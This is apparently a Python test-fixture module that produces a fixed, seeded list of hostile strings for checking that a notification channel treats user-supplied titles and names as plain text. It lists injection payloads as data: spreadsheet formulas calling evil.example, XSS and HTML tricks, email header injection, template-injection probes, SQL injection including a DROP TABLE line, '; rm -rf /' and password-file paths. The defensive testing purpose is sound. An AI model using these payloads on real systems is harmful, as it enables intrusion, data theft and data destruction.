"""Texts that attack whoever shows or forwards them, the same ones in each run: what a customer's system
could send as a title, a name or an action, and a channel must carry as mere letters."""

import random
import sys
import unicodedata
from collections import defaultdict
from collections.abc import Iterator, Sequence
from functools import cache

LONG = 100_000
_LONG_EVERY = 250
_TWO_WORDS = frozenset(("OLD", "TAI", "LINEAR", "INSCRIPTIONAL"))

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example","Click")',
    '=IMPORTXML("https://evil.example","//a")',
    "+SUM(1)*cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    '";=1+1',
)
SLACK = (
    "<!channel>",
    "<!here>",
    "<!everyone|all of you>",
    "<@U123>",
    "<@W0ABC|boss>",
    "<#C123|general>",
    "<!subteam^S123|@sales>",
    "<!date^1392734382^{date}^https://evil.example|today>",
    "<https://evil.example|click here>",
    "<mailto:a@evil.example|write>",
    "&lt;!channel&gt;",
    "&amp;lt;!here&amp;gt;",
    "@channel @here @everyone",
    "#general",
    ":rotating_light:",
    "*bold* _italic_ ~struck~ `code`",
    "```\nblock\n```",
    "> quoted",
    "<<!channel>>",
    "<!channel",
    "!channel>",
)
HTML = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "</td></tr></table><h1>Paid</h1>",
    '<a href="https://evil.example">Open the lead</a>',
    "<style>*{display:none}</style>",
    "<!-- hidden",
    "--> seen",
    "<![CDATA[<b>x</b>]]>",
    "&#60;b&#62;",
    "&lt;b&gt;",
    "&nbsp;&copy",
    "<svg/onload=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "</title><title>Other",
    "<base href=//evil.example>",
    '<form action="https://evil.example"><input>',
    "javascript:alert(1)",
    "expression(alert(1))",
)
HEADERS = (
    "\r\nBcc: victim@evil.example",
    "\nBcc: victim@evil.example",
    "\rSubject: Other",
    "\r\n\r\n<html>body</html>",
    "\r\n.\r\nMAIL FROM:<a@evil.example>",
    "\r\n.\r\n",
    "\n.\n",
    "%0d%0aSet-Cookie: a=b",
    "\u2028Bcc: victim@evil.example",
    "\u0085X-Evil: 1",
    "\x0bX-Evil: 1",
    "\x0cX-Evil: 1",
    "\x1cX-Evil: 1",
    "=?utf-8?b?PHNjcmlwdD4=?=",
    "=?utf-8?q?Bcc=3A?=",
    "a@b.example, c@evil.example",
    'Name" <a@evil.example>',
    "--boundary\r\nContent-Type: text/html",
    "From here",
    "\r\nHTTP/1.1 200 OK",
)
BIDI = (
    "\u202eexe.fdp",
    "abc\u202ddef\u202c",
    "\u2066hidden\u2069",
    "\u2067rtl\u2069",
    "\u2068first\u2069",
    "\u200fright",
    "\u200eleft",
    "\u061carabic",
    "Apple \u202eelgooG",
    "\u202a\u202b\u202c",
    "שלום <b>abc</b>",
    "مرحبا &amp; 123",
)
EMOJI = (
    "👩‍👩‍👧‍👦",
    "🏴‍☠️",
    "👍🏽",
    "🇨🇭",
    "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "❤️‍🔥",
    "1️⃣",
    "☎\ufe0e",
    "🧑🏿‍🚀",
    "e\u0301",
    "Z̴̛͉a͙͐l̸͎g̶o͌",
    "\u200b\u200c\u200d\u2060\ufeff",
    "🦖" * 30,
)
BROKEN = (
    "\x00",
    "a\x00b",
    "\ud800",
    "a\udc00b",
    "\udfff\ud800",
    "\x1b[31mred\x1b[0m",
    "\x7f\x80\x9f",
    "\x08\x08\x08",
    "\ufffe\uffff",
    "\U0010ffff",
    "\ufffd",
    "",
    " ",
    "\u00a0\u3000\u2003",
    "\\",
    "\\u0000",
    "\\n",
)
MARKDOWN = (
    "[click](https://evil.example)",
    "[click](javascript:alert(1))",
    "![pixel](https://evil.example/p.png)",
    "**bold** __bold__ *i* _i_",
    "# heading",
    "- item\r- item",
    "1. one",
    "<https://evil.example>",
    "[a]: https://evil.example",
    "[a][a]",
    "<at>Everyone</at>",
    "{{DATE(2025-10-09T12:00:00Z, LONG)}}",
    "{{TIME(2025-10-09T12:00:00Z)}}",
    "${$root.title}",
    "@{triggerBody()}",
    "@{body('x')?['y']}",
    "| a | b |\n|---|---|",
    "~~gone~~",
    "\\[not\\](a link)",
    "&#91;x&#93;(https://evil.example)",
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{{ self.__init__.__globals__ }}",
    "{% for x in range(10**9) %}x{% endfor %}",
    "{# note #}",
    "{{ ''.__class__.__mro__ }}",
    "#{7*7}",
    "%(x)s %s %n",
    "{0.__class__}",
    "{title!r}",
    "$(id)",
    "`id`",
    "; rm -rf /",
    "../../etc/passwd",
)
QUERIES = (
    "' OR Name != '",
    "\\' OR Id != '",
    "O'Neil",
    "x' LIMIT 1 --",
    "'; DROP TABLE leads; --",
    '" OR ""="',
    "%_\\%",
    "') UNION SELECT Id FROM User WHERE (Name='",
    "null",
    "true",
    "1e308",
    "NaN",
    '{"a":1}',
    "]]>",
)
LINKS = (
    "https://evil.example/login",
    "www.evil.example",
    "evil.example",
    "HTTPS://EVIL.EXAMPLE",
    "//evil.example/x",
    "mailto:a@evil.example",
    "tel:+41441234567",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "ftp://evil.example",
    "https://onelead.example@evil.example/",
    "https://еvil.example",
    "xn--80ak6aa92e.com",
)
ATTACKS: Sequence[str] = (
    *FORMULAS,
    *SLACK,
    *HTML,
    *HEADERS,
    *BIDI,
    *EMOJI,
    *BROKEN,
    *MARKDOWN,
    *TEMPLATES,
    *QUERIES,
    *LINKS,
)
_GLUE = ("", " ", "\n", "\r\n", "\t", "&", "<", ">", '"', "'", "|", "*", "_", ";", ",", "\u2028")
_NAMES = (
    "Apple Inc",
    "Müller & Söhne AG",
    "東日本電信電話",
    "ЗАО «Ромашка»",
    "شركة",
    "HP DL360p Gen8",
)


def hostile_texts(count: int = 10_000, seed: int = 20251009) -> Iterator[str]:
    """`count` hostile texts: each attack by itself, each script, then mixtures, some of them 100 kB long.

    A smaller count gives the beginning of a larger one's texts. They hold NULs and lone surrogates.
    """
    dice = random.Random(seed)  # noqa: S311 - a test's dice
    fixed = [*ATTACKS, *(_letters(dice, script) for script in scripts())]
    for index in range(count):
        if index % _LONG_EVERY == _LONG_EVERY - 1:
            yield _long(dice)
        elif index < len(fixed):
            yield fixed[index]
        else:
            yield _mixture(dice)


@cache
def scripts() -> tuple[str, ...]:
    """The letters and marks of each script that Unicode names, as one text each."""
    found: dict[str, list[str]] = defaultdict(list)
    for code in range(sys.maxunicode + 1):
        letter = chr(code)
        if unicodedata.category(letter)[0] in "LM" and (name := unicodedata.name(letter, "")):
            words = name.split()
            found[" ".join(words[: 1 + (words[0] in _TWO_WORDS)])].append(letter)
    return tuple("".join(found[name]) for name in sorted(found))


def _letters(dice: random.Random, script: str) -> str:
    return "".join(dice.choices(script, k=dice.randint(1, 40)))


def _mixture(dice: random.Random) -> str:
    """Attacks, names, letters of any script and any characters at all, glued together."""
    makers = (
        lambda: dice.choice(ATTACKS),
        lambda: dice.choice(ATTACKS),
        lambda: dice.choice(_NAMES),
        lambda: _letters(dice, dice.choice(scripts())),
        lambda: "".join(chr(dice.randrange(sys.maxunicode + 1)) for _ in range(5)),
    )
    glue = dice.choice(_GLUE)
    return glue.join(dice.choice(makers)() for _ in range(dice.randint(2, 6)))


def _long(dice: random.Random) -> str:
    """Exactly LONG bytes or a little more in UTF-8, all of it one attack or one mixture again and again."""
    piece = dice.choice((dice.choice(ATTACKS), _mixture(dice))) or "x"
    size = len(piece.encode(errors="surrogatepass"))
    return piece * (LONG // size + 1)
